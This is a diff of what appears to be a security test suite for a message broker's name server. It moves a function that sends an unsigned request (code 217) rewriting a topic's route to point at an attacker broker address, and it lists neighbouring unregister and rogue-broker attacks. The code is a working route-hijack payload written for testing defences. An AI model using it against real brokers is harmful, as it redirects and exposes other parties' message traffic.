@@ -125,6 +125,26 @@ async def import_state(attacker: Attacker) -> Outcome:
 
 
 @attack(
+    "log/write-route",
+    "writes a route for alice's topic (217)",
+    asset=ROUTE,
+    success="the route is another one",
+    answer=UNSIGNED,
+    ruins=True,
+)
+async def write_route(attacker: Attacker) -> Outcome:
+    body = {
+        "brokerDatas": [{"cluster": CLUSTER_NAME, "brokerName": BROKER_NAME, "brokerAddrs": {"0": EVIL}}],
+        "queueDatas": [
+            {"brokerName": BROKER_NAME, "readQueueNums": 7, "writeQueueNums": 7, "perm": 6, "topicSysFlag": 0}
+        ],
+    }
+    answer = await attacker.ask("namesrv", 217, {"topic": ORDERS}, json.dumps(body).encode())
+    queues = (await attacker.stage.route()).get("queueDatas", ())
+    return seen(any(row["readQueueNums"] == 7 for row in queues), answer)
+
+
+@attack(
     "log/unregister",
     "unregisters the master at the name server (104)",
     asset=ROUTE,
@@ -198,26 +218,6 @@ async def _registered(attacker: Attacker, broker_name: str) -> Outcome:
 )
 async def another_broker(attacker: Attacker) -> Outcome:
     return await _registered(attacker, "broker-evil")
-
-
-@attack(
-    "log/write-route",
-    "writes a route for alice's topic (217)",
-    asset=ROUTE,
-    success="the route is another one",
-    answer=UNSIGNED,
-    ruins=True,
-)
-async def write_route(attacker: Attacker) -> Outcome:
-    body = {
-        "brokerDatas": [{"cluster": CLUSTER_NAME, "brokerName": BROKER_NAME, "brokerAddrs": {"0": EVIL}}],
-        "queueDatas": [
-            {"brokerName": BROKER_NAME, "readQueueNums": 7, "writeQueueNums": 7, "perm": 6, "topicSysFlag": 0}
-        ],
-    }
-    answer = await attacker.ask("namesrv", 217, {"topic": ORDERS}, json.dumps(body).encode())
-    queues = (await attacker.stage.route()).get("queueDatas", ())
-    return seen(any(row["readQueueNums"] == 7 for row in queues), answer)
 
 
 @attack(
